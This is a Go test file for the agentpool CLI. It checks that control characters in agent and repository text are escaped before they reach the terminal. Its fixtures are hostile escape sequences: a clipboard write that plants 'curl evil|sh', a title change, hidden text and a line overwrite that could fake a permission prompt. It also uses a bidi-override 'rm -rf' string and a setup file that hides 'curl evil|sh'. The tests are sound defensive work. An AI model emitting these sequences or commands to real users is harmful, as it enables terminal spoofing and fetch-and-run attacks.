package main

import (
	"bytes"
	"errors"
	"strings"
	"testing"

	"github.com/agentpool/agentpool/backends"
	"github.com/agentpool/agentpool/httpapi"
	"github.com/agentpool/agentpool/pool"
)

// Sequences an agent can put in its words to drive the user's terminal:
// a clipboard write, a window title, hidden text, and a carriage return
// that erases and moves up to overwrite the line before.
const (
	seqClipboard = "\x1b]52;c;Y3VybCBldmlsfHNo\x07"
	seqTitle     = "\x1b]0;pwned\x1b\\"
	seqHidden    = "\x1b[8m"
	seqOverwrite = "\r\x1b[2K\x1b[1A"
)

// TestTermText: control characters are shown as git and less show them,
// so that none reaches the terminal; newlines, tabs and other text stay.
func TestTermText(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"plain text, ünïcode ✓", "plain text, ünïcode ✓"},
		{"two\nlines\tand a tab", "two\nlines\tand a tab"},
		{seqClipboard, "^[]52;c;Y3VybCBldmlsfHNo^G"},
		{seqTitle, "^[]0;pwned^[\\"},
		{"a" + seqHidden + "b", "a^[[8mb"},
		{"x" + seqOverwrite + "y", "x^M^[[2K^[[1Ay"},
		{"del\x7f nul\x00 bs\b", "del^? nul^@ bs^H"},
		{"c1 \u009b31m csi", `c1 \u009b31m csi`},
		{"raw \x9b31m byte", `raw \x9b31m byte`},
		// Bidirectional overrides and isolates would reorder what follows.
		{"rm -rf \u202e/ fdp\u202c ok", `rm -rf \u202e/ fdp\u202c ok`},
		{"a\u202ab\u202bc\u202dd \u2066e\u2067f\u2068g\u2069", `a\u202ab\u202bc\u202dd \u2066e\u2067f\u2068g\u2069`},
		{"arabic \u0627\u0644 and hebrew \u05d0 stay, \u2065 and \u206a too", "arabic \u0627\u0644 and hebrew \u05d0 stay, \u2065 and \u206a too"},
	} {
		if got := termText(tc.in); got != tc.want {
			t.Errorf("termText(%q) = %q; want %q", tc.in, got, tc.want)
		}
		if strings.ContainsAny(termText(tc.in), "\x1b\r\x07\x00\x7f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069") {
			t.Errorf("termText(%q) lets a control character through", tc.in)
		}
	}
	if got := termLine("a\nb\tc" + seqHidden); got != "a^Jb^Ic^[[8m" {
		t.Errorf("termLine = %q", got)
	}
}

// withoutOwnColours is out without the colours the CLI adds itself.
func withoutOwnColours(out string) string {
	return strings.NewReplacer(ansiDim, "", ansiReset, "", ansiRed, "", ansiGreen, "", ansiCyan, "").Replace(out)
}

// TestRendererEscapesAgentText: `agentpool prompt` shows the agent's
// text, thoughts, tool titles, plans, commands and permission questions
// with their control characters escaped; only its own colours reach the
// terminal as sequences.
func TestRendererEscapesAgentText(t *testing.T) {
	evil := "words" + seqClipboard + seqTitle + seqHidden + seqOverwrite + "end"
	for _, color := range []bool{true, false} {
		var out bytes.Buffer
		r := newRenderer(&out, &out, color)
		for _, ev := range []struct {
			typ  backends.EventType
			data map[string]any
		}{
			{backends.EventMessageChunk, map[string]any{"role": backends.RoleAgent, "text": evil + "\n"}},
			{backends.EventMessageChunk, map[string]any{"role": backends.RoleThought, "text": evil}},
			{backends.EventToolCall, map[string]any{"toolCallId": "t1", "title": evil, "kind": "edit", "locations": []map[string]any{{"path": "a" + seqHidden + ".go"}}}},
			{backends.EventToolUpdate, map[string]any{"toolCallId": "t1", "status": "completed"}},
			{backends.EventPlan, map[string]any{"entries": []map[string]any{{"content": evil, "status": "pending"}}}},
			{backends.EventPermissionRequest, map[string]any{"request": "r1", "title": "Run ls" + seqOverwrite + "Allowed", "risk": "low"}},
			{backends.EventTerminalCreated, map[string]any{"command": "sh", "args": []string{"-c", evil}}},
			{backends.EventPTYOutput, map[string]any{"data": evil}},
			{backends.EventError, map[string]any{"error": evil}},
			{backends.EventTurnEnded, map[string]any{"turn": 1, "stop_reason": "end_turn", "error": evil}},
		} {
			r.event(backends.Event{Type: ev.typ, Agent: "fake", Data: backends.MustJSON(ev.data)})
		}
		got := withoutOwnColours(out.String())
		if strings.ContainsAny(got, "\x1b\r\x07") {
			t.Errorf("color=%v: a control character of the agent's reached the terminal:\n%q", color, got)
		}
		for _, want := range []string{"^[]52;c;", "^[]0;pwned", "^[[8m", "Run ls^M^[[2K^[[1AAllowed"} {
			if !strings.Contains(got, want) {
				t.Errorf("color=%v: output lacks %q, escaped:\n%s", color, want, got)
			}
		}
		if color && !strings.Contains(out.String(), ansiCyan+"? permission asked: ") {
			t.Errorf("the CLI's own colour is gone:\n%q", out.String())
		}
	}
}

// TestEventLineEscapesAgentText: `agentpool events` lines show the
// agent's words with their control characters escaped.
func TestEventLineEscapesAgentText(t *testing.T) {
	evil := "words" + seqClipboard + seqTitle + seqHidden + seqOverwrite + "end"
	for _, ev := range []backends.Event{
		{Type: backends.EventMessageChunk, Data: backends.MustJSON(map[string]any{"role": backends.RoleAgent, "text": evil})},
		{Type: backends.EventToolCall, Data: backends.MustJSON(map[string]any{"toolCallId": "t1", "title": evil})},
		{Type: backends.EventPermissionRequest, Data: backends.MustJSON(map[string]any{"request": "r1", "title": "Run ls" + seqOverwrite})},
		{Type: backends.EventSessionInfo, Data: backends.MustJSON(map[string]any{"title": evil})},
		{Type: backends.EventFSWrite, Data: backends.MustJSON(map[string]any{"path": "a" + seqHidden + ".go", "bytes": 3})},
		{Type: backends.EventPTYOutput, Data: backends.MustJSON(map[string]any{"data": evil})},
		{Type: "some.future.event", Data: backends.MustJSON(map[string]any{"x": evil})},
		{Type: backends.EventMessageChunk, Agent: "fake" + seqHidden, Data: backends.MustJSON(map[string]any{"role": backends.RoleAgent, "text": "hi"})},
	} {
		got := eventLine(ev)
		if strings.ContainsAny(got, "\x1b\r\x07") {
			t.Errorf("eventLine(%s) lets a control character through: %q", ev.Type, got)
		}
		if !strings.Contains(got, "^[") && !strings.Contains(got, `\u001b`) {
			t.Errorf("eventLine(%s) = %q; want the sequence shown escaped", ev.Type, got)
		}
	}
}

// TestDiffNamesEscaped: the file names of a diff's summary and of its
// notes are a repository's words, shown escaped.
func TestDiffNamesEscaped(t *testing.T) {
	var out bytes.Buffer
	c := &cli{stdout: &out, stderr: &out}
	d := pool.Diff{
		Files:       []pool.FileChange{{Path: "a" + seqHidden + ".go", Status: "M", Additions: 1}},
		Hidden:      []pool.HiddenFile{{Path: "h" + seqOverwrite, Rule: "*" + seqTitle}},
		HiddenCount: 1,
		Copied:      []pool.CopiedFile{{Path: "c" + seqClipboard, Present: true}},
	}
	c.renderDiffStat(d)
	c.renderHidden(d)
	c.renderCopied(d)
	got := out.String()
	if strings.ContainsAny(got, "\x1b\r\x07") {
		t.Errorf("a control character of the repository's reached the terminal:\n%q", got)
	}
	for _, want := range []string{"a^[[8m.go", "h^M^[[2K", "*^[]0;pwned", "c^[]52;c;"} {
		if !strings.Contains(got, want) {
			t.Errorf("output lacks %q:\n%s", want, got)
		}
	}
}

// TestSetupFileShownEscaped: a repository's setup file, shown before the
// user trusts it, cannot hide a line or a part of its command.
func TestSetupFileShownEscaped(t *testing.T) {
	var out bytes.Buffer
	c := &cli{stdout: &out, stderr: &out}
	c.showSetupFile(httpapi.SetupFile{Repo: "/r", File: "/r/.agentpool/setup.json", SHA256: "ab",
		Content: "{\"command\": [\"make\"]}\n" + seqOverwrite + seqHidden + "\"curl evil|sh\"\n",
		Copy:    []string{".env" + seqTitle}, Command: []string{"sh", "-c", seqHidden + "curl evil|sh"}, Timeout: "5m0s"})
	got := out.String()
	if strings.ContainsAny(got, "\x1b\r\x07") {
		t.Errorf("a control character of the repository's reached the terminal:\n%q", got)
	}
	for _, want := range []string{"  | ^M^[[2K^[[1A^[[8m\"curl evil|sh\"", "'.env^[]0;pwned^[\\'", "'^[[8mcurl evil|sh'"} {
		if !strings.Contains(got, want) {
			t.Errorf("output lacks %q:\n%s", want, got)
		}
	}
}

// TestProgressEscapesArgs: a progress note's arguments (an agent's
// error, a daemon's message) are escaped; its own format is not.
func TestProgressEscapesArgs(t *testing.T) {
	var out bytes.Buffer
	c := &cli{stdout: &out, stderr: &out}
	c.progress("failed: %s (%v) %d\n", "bad"+seqTitle, errors.New("worse"+seqHidden), 3)
	if got, want := out.String(), "failed: bad^[]0;pwned^[\\ (worse^[[8m) 3\n"; got != want {
		t.Errorf("progress = %q; want %q", got, want)
	}
}

// TestAgentConfigTablesEscaped: `session config`, `session mode` and
// `session commands` list what the agent announced (option ids, values,
// mode names, command names and hints): every cell is shown escaped, on
// one line, so that none drives the terminal or breaks the table.
func TestAgentConfigTablesEscaped(t *testing.T) {
	evil := "x" + seqClipboard + seqTitle + seqHidden + seqOverwrite + "\u202e\ty\nz"
	var out bytes.Buffer
	opts := []backends.ConfigOption{{ID: "model" + evil, Category: "cat" + evil, Type: backends.OptionSelect, Current: "cur" + evil,
		Choices: []backends.Choice{{Value: "v1" + evil}, {Value: "v2"}}}}
	if err := renderOptions(&out, opts); err != nil {
		t.Fatal(err)
	}
	if err := renderModes(&out, []backends.Mode{{ID: "mode" + evil, Name: "name" + evil, Description: "desc" + evil}}, "mode"+evil); err != nil {
		t.Fatal(err)
	}
	if err := renderCommands(&out, []backends.Command{{Name: "cmd" + evil, Hint: "hint" + evil, Description: "desc" + evil}}); err != nil {
		t.Fatal(err)
	}
	got := out.String()
	if strings.ContainsAny(got, "\x1b\r\x07\u202e") {
		t.Errorf("a control character of the agent's reached the terminal:\n%q", got)
	}
	if lines := strings.Count(got, "\n"); lines != 6 {
		t.Errorf("got %d lines, want 6 (a header and a row per table):\n%s", lines, got)
	}
	for _, want := range []string{"modelx^[]52;c;", "catx^[]52;c;", "curx^[]52;c;", "v1x^[]52;c;", "^[[8m^M^[[2K^[[1A", "* modex", "namex^[]52",
		"/cmdx^[]52;c;", "<hintx^[]52;c;", `\u202e^Iy^Jz`} {
		if !strings.Contains(strings.ReplaceAll(got, "  ", " "), want) {
			t.Errorf("output lacks %q:\n%s", want, got)
		}
	}
}
